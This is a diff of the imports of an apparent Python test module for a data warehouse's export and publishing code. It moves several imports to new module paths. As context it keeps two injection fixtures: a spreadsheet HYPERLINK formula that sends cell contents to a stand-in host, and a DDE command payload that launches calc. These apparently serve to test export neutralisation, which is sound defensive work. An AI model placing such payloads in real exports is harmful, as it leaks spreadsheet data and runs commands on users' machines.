@@ -13,11 +13,11 @@ import pytest
 
 from pipelines.cli import main
 from tests.hand_made import load_rows, made_case
-from warehouse.catalogues import definition_body, register
 from warehouse.export_safety import neutralise
+from warehouse.marts.catalogues import definition_body, register
+from warehouse.marts.publish import publish
 from warehouse.outcomes.registry import shipped_registry
-from warehouse.publish import publish
-from warehouse.store import open_store
+from warehouse.store.store import open_store
 
 FORMULA = '=HYPERLINK("http://lantern.example/?x="&A1,"more")'
 COMMAND = "+cmd|' /C calc'!A0"
